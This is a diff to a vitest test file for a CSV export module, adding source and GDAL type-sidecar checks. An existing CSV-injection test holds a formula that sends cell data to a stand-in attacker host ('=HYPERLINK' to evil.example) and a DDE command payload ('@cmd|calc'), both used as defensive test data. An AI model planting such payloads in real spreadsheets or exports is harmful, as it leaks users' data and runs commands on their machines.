@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, csvField, eventsToCSV, parseCSV } from '../../src/core/export/csv';
-import { EVENTS, FACTIONS, PLACES_BY_ID } from '../fixtures/export/record';
+import { CSV_COLUMNS, CSV_TYPES, csvField, csvtText, eventsToCSV, parseCSV } from '../../src/core/export/csv';
+import { EVENTS, FACTIONS, PLACES_BY_ID, SOURCES } from '../fixtures/export/record';
 
-const csv = eventsToCSV(EVENTS, { places: PLACES_BY_ID, factions: FACTIONS });
+const ctx = { places: PLACES_BY_ID, factions: FACTIONS, sources: SOURCES };
+const csv = eventsToCSV(EVENTS, ctx);
 
 describe('csvField (RFC 4180)', () => {
   it('quotes only fields with commas, quotes or line breaks, doubling quotes', () => {
@@ -39,7 +40,7 @@ describe('CSV injection (OWASP): no cell runs as a formula in a spreadsheet', ()
       note: '=HYPERLINK("http://evil.example/?"&A2,"source")',
       citations: [{ source: first!.citations[0]!.source, quote: '@cmd|calc' }],
     };
-    const rows = parseCSV(eventsToCSV([hostile], { places: PLACES_BY_ID, factions: FACTIONS }));
+    const rows = parseCSV(eventsToCSV([hostile], ctx));
     const cells = rows[1]!;
     expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false);
     expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A2,"source")');
@@ -74,12 +75,24 @@ describe('eventsToCSV', () => {
       confidence: 'high',
       precision: 'day',
       sources: '000_243acee9b8c246ee.txt;004_c6c7203b69ad82c5.txt',
+      source_outlets: 'AFP;Associated Press',
+      // Neither seed article has a URL: the two places stay, empty, so the lists line up.
+      source_urls: ';',
       quotes: EVENTS[0]!.citations.map((c) => c.quote).join('\n'),
       note: 'two sources,\nsame day',
     });
     expect(recs[1]!.place_name_ar).toBe('حمص');
     // The raw text really does quote: a comma and a doubled quote appear inside a quoted field.
     expect(csv).toContain('fell under ""opposition control""');
+  });
+
+  it('has a .csvt sidecar with one GDAL type per column, lon and lat as the point', () => {
+    const types = parseCSV(csvtText());
+    expect(types).toHaveLength(1);
+    expect(types[0]).toEqual(CSV_COLUMNS.map((c) => CSV_TYPES[c]));
+    expect(types[0]![CSV_COLUMNS.indexOf('date')]).toBe('Date');
+    expect(types[0]![CSV_COLUMNS.indexOf('lon')]).toBe('CoordX');
+    expect(types[0]![CSV_COLUMNS.indexOf('lat')]).toBe('CoordY');
   });
 
   it('parses a hand-written RFC 4180 sample, LF endings included', () => {
